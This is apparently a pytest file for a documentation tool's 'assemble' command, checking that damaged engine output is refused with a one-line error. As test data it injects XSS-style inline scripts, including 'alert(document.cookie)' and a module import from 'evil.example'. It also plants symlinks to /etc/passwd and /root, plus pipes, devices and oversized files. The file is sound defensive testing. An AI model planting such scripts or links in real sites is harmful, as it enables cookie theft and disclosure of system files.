"""``helpflow assemble`` trusts nothing the engine built (issue 22, class 1).

An export of a two-language school, each language built by an engine (MkDocs itself, run
as a plain project without helpflow's hook, as ``make engines``' ProperDocs and Zensical
run it in ``tests/builds/test_engines.py``), then damaged the ways an engine's output can
be: an inline script nobody wrote, a link out of the site, a pipe, a device, a page of
gigabytes, a language the language choice links to but nobody built. Each is refused in
one line naming the file, and no site is written; the undamaged export assembles.
"""

from __future__ import annotations

import os
import shutil
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from helpflow.build.export import export_school
from helpflow.load.content import load_content
from helpflow.paths import CONTENT, HEADERS_FILE, MANIFEST_FILE
from helpflow.publish.headers import inline_scripts, parse_headers_file

from helpers import in_process

TWO = """name: Twee talen
smartschool: twee
email: secretariaat@twee.be
site_url: https://help.twee.be/
languages: [nl, fr]
flows: [wachtwoord-vergeten]
"""
MKDOCS = Path(sys.executable).parent / "mkdocs"


@pytest.fixture(scope="module")
def built_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The export, every language built by MkDocs as a plain project (no hook)."""
    folder = tmp_path_factory.mktemp("assemble")
    (folder / "twee.yml").write_text(TWO, encoding="utf-8")
    export = folder / "export"
    export_school(folder / "twee.yml", export, load_content(CONTENT))
    for lang in ("nl", "fr"):
        done = subprocess.run([str(MKDOCS), "build", "-q", "-f", "mkdocs.yml"], cwd=export / lang, capture_output=True,
                              text=True, timeout=600, check=False, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
        assert done.returncode == 0, done.stderr[-2000:]
    return export


@pytest.fixture
def export(tmp_path: Path, built_export: Path) -> Path:
    """A copy of the built export to damage."""
    return Path(shutil.copytree(built_export, tmp_path / "export", symlinks=True))


def refused(export: Path, *says: str) -> str:
    """The one ``error:`` line of assembling ``export``, which leaves no site."""
    result = in_process("assemble", str(export))
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert result.returncode == 1 and len(errors) == 1 and "Traceback" not in result.stderr, result.stderr
    assert errors[0].isprintable() and len(errors[0]) < 500, errors[0]
    for text in says:
        assert text in errors[0], errors[0]
    assert not (export / "site").exists() and not [p for p in export.iterdir() if p.name.startswith(".site.")]
    return errors[0]


def page(export: Path, name: str = "nl/site/index.html") -> Path:
    return export / name


def test_the_export_as_built_assembles_with_only_the_engines_own_scripts(export):
    result = in_process("assemble", str(export))
    assert result.returncode == 0, result.stderr
    site = export / "site"
    policy = parse_headers_file((site / HEADERS_FILE).read_text(encoding="utf-8"))["/*"]["Content-Security-Policy"]
    scripts = {script for path in site.rglob("*.html") for script in inline_scripts(path.read_text(encoding="utf-8"))}
    assert scripts and policy.count("'sha256-") == len(scripts)  # each distinct script of the pages, no other
    assert "\n    " not in (site / "nl" / "index.html").read_text(encoding="utf-8")  # squeezed, as build's pages


@pytest.mark.parametrize("script", [
    "<script>alert(document.cookie)</script>",
    '<script type="module">import("https://evil.example/x.js")</script>',
    '<script type="text/javascript">fetch("/")</script>',
    '<script>__md_scope=new URL("x\\"+alert(1)+\\"",location)</script>',
], ids=["plain", "module", "typed", "material-lookalike"])
def test_an_inline_script_no_engine_writes_is_refused_never_hashed(export, script):
    target = page(export, "fr/site/schema.html")
    target.write_text(target.read_text(encoding="utf-8").replace("</body>", script + "</body>"), encoding="utf-8")
    refused(export, "fr/site/schema.html", "an inline script no known engine writes")


def test_a_known_script_changed_by_one_character_is_refused(export):
    target = page(export)
    text = target.read_text(encoding="utf-8")
    assert "localStorage" in text
    target.write_text(text.replace("localStorage", "sessionStorage", 1), encoding="utf-8")
    refused(export, "nl/site/index.html", "inline script")


def test_a_script_in_the_root_files_is_refused_by_its_place_in_the_export(export):
    root = export / "root" / "index.html"
    root.write_text(root.read_text(encoding="utf-8").replace("</body>", "<script>1</script></body>"), encoding="utf-8")
    refused(export, "root/index.html", "inline script")


def test_a_data_block_is_no_script(export):
    target = page(export)
    target.write_text(target.read_text(encoding="utf-8").replace(
        "</body>", '<script type="application/json">{"a": 1}</script></body>'), encoding="utf-8")
    assert in_process("assemble", str(export)).returncode == 0


@pytest.mark.parametrize(("where", "to"), [
    ("nl/site/passwd.html", "/etc/passwd"),
    ("nl/site/private", "/root"),
    ("fr/site/assets/gone.css", "/nonexistent/gone.css"),
    ("root/extra.html", "/etc/hostname"),
    ("nl/site/mail-naar-de-school.html", "/etc/passwd"),
])
def test_a_link_in_what_the_engine_built_is_refused_by_name(export, where, to):
    link = export / where
    link.unlink(missing_ok=True)
    link.symlink_to(to)
    refused(export, where, "is a symbolic link")


def test_a_language_folder_or_its_built_site_that_is_a_link_is_refused(export, tmp_path):
    elsewhere = Path(shutil.move(export / "fr" / "site", tmp_path / "elsewhere"))
    (export / "fr" / "site").symlink_to(elsewhere)
    refused(export, "fr/site", "is a symbolic link")


@pytest.mark.parametrize("kind", ["pipe", "socket", "device"])
def test_a_pipe_socket_or_device_is_refused_by_name_without_waiting(export, kind):
    target = export / "nl" / "site" / "odd.html"
    if kind == "pipe":
        os.mkfifo(target)
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(target))
    else:
        try:
            os.mknod(target, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero's numbers
        except PermissionError:
            pytest.skip("making a device needs root")
    start = time.monotonic()
    refused(export, "nl/site/odd.html", {"pipe": "a named pipe", "socket": "a socket", "device": "a device"}[kind])
    assert time.monotonic() - start < 30


def test_a_sparse_page_of_2_gb_is_refused_by_its_size_before_it_is_read(export):
    target = page(export, "nl/site/huge.html")
    with open(target, "wb") as sparse:
        sparse.truncate(2 << 30)
    start = time.monotonic()
    refused(export, "nl/site/huge.html", "bytes, more than")
    assert time.monotonic() - start < 30


@pytest.mark.parametrize("gone", ["whole project", "its mkdocs.yml"])
def test_a_language_the_language_choice_links_to_must_be_in_the_export(export, gone):
    shutil.rmtree(export / "fr") if gone == "whole project" else (export / "fr" / "mkdocs.yml").unlink()
    refused(export, "root/index.html", "links to fr", "export the school again")


def test_the_language_choice_linking_a_language_never_exported_is_refused(export):
    root = export / "root" / "index.html"
    root.write_text(root.read_text(encoding="utf-8").replace(
        "</ul>", '<li><a href="en/index.html" hreflang="en" lang="en">English</a></li></ul>', 1), encoding="utf-8")
    refused(export, "links to en")


def test_a_project_without_the_labels_assemble_needs_is_named(export):
    settings = export / "nl" / "mkdocs.yml"
    settings.write_text(settings.read_text(encoding="utf-8").replace("labels:", "labelz:", 1), encoding="utf-8")
    refused(export, "nl/mkdocs.yml", "extra.helpflow.labels")


def test_a_refused_assemble_leaves_the_previous_site_as_it_was(export):
    assert in_process("assemble", str(export)).returncode == 0
    before = (export / "site" / MANIFEST_FILE).read_bytes()
    (export / "nl" / "site" / "odd").symlink_to("/etc")
    result = in_process("assemble", str(export))
    assert result.returncode == 1 and "nl/site/odd" in result.stderr
    assert (export / "site" / MANIFEST_FILE).read_bytes() == before


def test_hidden_folders_of_other_programs_beside_the_site_are_left_alone(export, tmp_path):
    """Folders named as a killed build's leftovers would be, but of another name than the
    site's: another program's, never cleared."""
    parent = tmp_path / "www"
    theirs = [parent / ".photos.old-2023-backup", parent / ".notes.building-42-x", parent / ".site2.old-1-x"]
    for folder in theirs:
        folder.mkdir(parents=True)
        (folder / "keep.txt").write_text("mine", encoding="utf-8")
    result = in_process("assemble", str(export), "--out", str(parent / "site"))
    assert result.returncode == 0, result.stderr
    assert all((folder / "keep.txt").read_text(encoding="utf-8") == "mine" for folder in theirs)
    assert (parent / "site" / "nl" / "index.html").is_file()


@pytest.mark.parametrize("text", ["", "<p>no head at all</p>", "<html><body><script>x</script></body></html>"],
                         ids=["empty", "fragment", "body-only"])
def test_a_page_without_a_head_for_the_policy_is_refused_in_one_line(export, text):
    page(export, "fr/site/schema.html").write_text(text, encoding="utf-8")
    refused(export, "fr/site/schema.html", "has no <head> to hold the site's security policy")


def test_a_site_folder_that_is_a_loop_of_links_is_one_line(export, tmp_path):
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    result = in_process("assemble", str(export), "--out", str(loop))
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert result.returncode == 1 and len(errors) == 1 and "Traceback" not in result.stderr, result.stderr
    assert errors[0].startswith(f"error: {loop}: ") and "unexpected" not in errors[0], errors[0]
